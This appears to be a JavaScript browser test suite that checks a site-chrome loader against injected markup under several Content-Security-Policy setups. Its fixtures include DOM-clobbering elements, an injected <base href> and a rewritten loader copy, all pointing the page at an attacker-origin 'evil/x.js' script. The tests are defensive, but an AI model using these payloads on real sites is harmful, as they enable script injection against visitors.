// Issue 34: markup a visitor can get into a page (a comment field that allows `name` attributes,
// a <base>, an innerHTML'd tag) never becomes script through the chrome. In Chromium, on pages
// served over HTTP with the policies partners use: none, a nonce, a nonce with 'strict-dynamic',
// and the after-paint loader's hash. Needs dist/ (npm run build; CI builds first).
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { after, before, test } from 'node:test';
import { launchChromium } from '../../bench/browser.mjs';
import { renderedScript } from '../../testing/ready.js';
import { startBackendServer } from './helpers/backendServer.mjs';
import { documentMembers, isCodeMap } from '../helpers/documentMembers.mjs';

const root = new URL('../../', import.meta.url);
const skip = existsSync(new URL('dist/manifest.json', root)) ? false : 'dist/ is missing: run `npm run build` first';
/** @type {typeof import('../../src/server')} */
const { chromeHeadTags, afterPaintLoaderHash } = skip ? /** @type {never} */ ({}) : await import(new URL('dist/server/index.js', root).href);

const NONCE = 'r4nd0mN0nce';
const LOCALE = 'de-DE';
/** The policies, as a page's <meta>; each with the loader written as it must be under it. */
const POLICIES = {
  'no CSP': { meta: '', nonce: undefined },
  'a nonce': { meta: `script-src 'nonce-${NONCE}'`, nonce: NONCE },
  "a nonce with 'strict-dynamic'": { meta: `script-src 'nonce-${NONCE}' 'strict-dynamic'`, nonce: NONCE },
  "the loader's hash": { meta: `script-src 'self' '${skip ? '' : String(afterPaintLoaderHash({ locale: LOCALE }))}'`, nonce: undefined },
};
const cspMeta = (/** @type {string} */ policy) => (policy ? `<meta http-equiv="Content-Security-Policy" content="${policy}">` : '');

/** @type {Record<string, string>} Pages of this test's own, by path. */
const pages = {};
/** @type {Awaited<ReturnType<typeof startBackendServer>>} */
let server;
/** @type {import('puppeteer-core').Browser} */
let browser;
/** Another origin of this machine (localhost, not 127.0.0.1): where an attacker's script would come from. */
let elsewhere = '';

before(async () => {
  if (skip) return;
  server = await startBackendServer({ pages });
  elsewhere = `http://localhost:${String(server.port)}`;
  browser = await launchChromium();
});

after(async () => {
  await browser?.close();
  await server?.close();
});

/**
 * Opens a page of this test's own in a fresh context; `check` runs on it. Returns every URL the
 * page asked for.
 * @param {string} html
 * @param {(tab: import('puppeteer-core').Page) => Promise<void>} check
 */
async function visit(html, check) {
  const path = `/injected/${String(Math.random()).slice(2)}.html`;
  pages[path] = html;
  const context = await browser.createBrowserContext();
  /** @type {string[]} */
  const asked = [];
  try {
    const tab = await context.newPage();
    tab.on('request', (request) => void asked.push(request.url()));
    await tab.goto(`${server.origin}${path}`);
    await check(tab);
  } finally {
    await context.close();
  }
  return asked;
}

const EVIL = () => `${elsewhere}/evil/x.js`;
/** What a comment field might let through, before the loader, by name. */
const ATTACKS = {
  'a clobbering <img name="currentScript">': () => `<img name="currentScript" data-bundle="${EVIL()}" data-preload="${EVIL()}" data-integrity="">`,
  'a clobbering <form name="currentScript">': () => `<form name="currentScript" data-bundle="${EVIL()}"></form><img name="head">`,
  'an injected <base href>': () => `<base href="${elsewhere}/evil/">`,
  /** A copy of the loader naming another bundle; under no CSP any injected script is script injection already. */
  'an injected copy of the loader': (/** @type {string} */ loader) => `<script>${loader.replace(/^<script[^>]*>|<\/script>$/g, '').replace(/"bundle":"[^"]*"/, `"bundle":"${EVIL()}"`)}</script>`,
};

for (const [policyName, policy] of Object.entries(POLICIES)) {
  for (const [attackName, attack] of Object.entries(ATTACKS)) {
    if (policyName === 'no CSP' && attackName === 'an injected copy of the loader') continue;
    test(`the after-paint loader under ${policyName} loads only its own bundle after ${attackName}`, { skip, timeout: 60_000 }, async () => {
      const loader = chromeHeadTags({ locale: LOCALE, load: 'after-paint', nonce: policy.nonce });
      const html = `<!doctype html><html lang="${LOCALE}"><head><meta charset="utf-8">${cspMeta(policy.meta)}</head><body>${attack(loader)}` +
        `<site-header locale="${LOCALE}" no-consent-banner></site-header><main>Film</main><site-footer locale="${LOCALE}" no-consent-banner></site-footer>${loader}</body></html>`;
      const asked = await visit(html, async (tab) => {
        await tab.waitForFunction(renderedScript(['site-header', 'site-footer'], LOCALE), { timeout: 15_000 });
        assert.equal(await tab.evaluate(() => 'PWNED' in window), false);
      });
      // Scripts only: an injected <base> also moves the chrome's root-relative links and calls
      // (reported on issue 34; the links' own fix is issue 35's site origin).
      assert.deepEqual(asked.filter((url) => url.startsWith(elsewhere) && /\.js(\?|$)/.test(url)), [], 'no script asked for from the other origin');
      assert.ok(asked.some((url) => /\/dist\/marquee-[\w-]{8}\.js$/.test(url)), 'the page\'s own bundle was loaded');
    });
  }
}

/** Runs in the page: clicks the banner's Accept, looking through shadow roots. */
function clickAccept() {
  /** @param {ParentNode} node @returns {HTMLButtonElement | undefined} */
  const find = (node) => {
    for (const element of node.querySelectorAll('*')) {
      if (element instanceof HTMLButtonElement && element.textContent?.trim() === 'Accept' && element.checkVisibility()) return element;
      const inner = element.shadowRoot && find(element.shadowRoot);
      if (inner) return inner;
    }
    return undefined;
  };
  const button = find(document);
  button?.click();
  return button !== undefined;
}

/** A page with the chrome, its own marked scripts and a comment that its own script puts in with innerHTML. */
function trackerPage(/** @type {string} */ policy, /** @type {string | undefined} */ nonce) {
  const nonced = nonce ? ` nonce="${nonce}"` : '';
  const marked = (/** @type {string} */ name, /** @type {string} */ attributes = '') =>
    `<script type="text/plain" data-consent-vendor="755"${attributes}>window.ran.push('${name}')</script>`;
  return `<!doctype html><html lang="en-US"><head><meta charset="utf-8">${cspMeta(policy)}<script${nonced}>window.ran = []</script>${chromeHeadTags({ nonce })}</head>
<body><consent-banner></consent-banner><site-header></site-header>
${marked('own', nonced)}${marked('unnonced')}
<div id="comments"></div>
<script${nonced}>document.getElementById('comments').innerHTML = ${JSON.stringify(marked('injected')).replace(/</g, '\\u003c')};</script>
</body></html>`;
}

for (const [policyName, policy, expected] of /** @type {const} */ ([
  ['no CSP', '', ['own', 'unnonced']],
  ["a nonce with 'strict-dynamic'", `script-src 'nonce-${NONCE}' 'strict-dynamic'`, ['own']],
])) {
  test(`under ${policyName}, Accept runs the page's own marked scripts (${expected.join(', ')}) and never one put in with innerHTML`, { skip, timeout: 60_000 }, async () => {
    await visit(trackerPage(policy, policy ? NONCE : undefined), async (tab) => {
      await tab.waitForFunction(clickAccept, { timeout: 15_000 });
      await tab.waitForFunction(() => /** @type {any} */ (window).ran.includes('own'), { timeout: 10_000 });
      await new Promise((resolve) => setTimeout(resolve, 500));
      assert.deepEqual(await tab.evaluate(() => /** @type {any} */ (window).ran), expected);
    });
  });
}

/**
 * Issue 52, item 2, server-rendered: the members of the document and the window that the chrome's
 * code reads (as its source maps spell them; test/chrome/pageDocument.test.ts loads the painted
 * and client-only chrome so in three engines), each shadowed by a named <img> in the page.
 */
function memberNames() {
  const manifest = JSON.parse(readFileSync(new URL('dist/manifest.json', root), 'utf8'));
  return documentMembers(manifest.immutable.filter(isCodeMap).flatMap((/** @type {string} */ file) => JSON.parse(readFileSync(new URL(`dist/${file}`, root), 'utf8')).sourcesContent));
}

test('a server-rendered page whose named elements shadow the document hydrates, with no error', { skip, timeout: 60_000 }, async () => {
  const { renderChromeTags } = await import(new URL('dist/server/index.js', root).href);
  const named = memberNames().map((name) => `<img name="${name}" id="${name}" alt="">`).join('');
  // What the page logs as an error, from its first script on.
  const watch = `<script>window.errors = []; const log = console.error.bind(console); console.error = (...args) => { errors.push(args.map(String).join(' ')); log(...args); }; addEventListener('error', (event) => errors.push(event.message));</script>`;
  const page = `<!doctype html><html lang="en-US"><head><meta charset="utf-8">${watch}</head><body><site-header></site-header><main>${named}</main><site-footer></site-footer></body></html>`;
  const rendered = await renderChromeTags(page);
  const html = rendered.replace('</body>', `${chromeHeadTags({ load: 'after-paint' })}</body>`);
  /** @type {string[]} */
  let errors = [];
  await visit(html, async (tab) => {
    assert.equal(await tab.evaluate(() => typeof (/** @type {any} */ (document).createElement)), 'object', 'the attack is live');
    // Found through the prototype, and hydrated (data-hydrated), not only the server's HTML.
    await tab.waitForFunction(
      () => ['site-header', 'site-footer'].every((tag) => Document.prototype.querySelector.call(document, tag)?.hasAttribute('data-hydrated')),
      { timeout: 15_000 },
    );
    errors = await tab.evaluate(() => /** @type {any} */ (window).errors);
  });
  assert.deepEqual(errors, []);
});
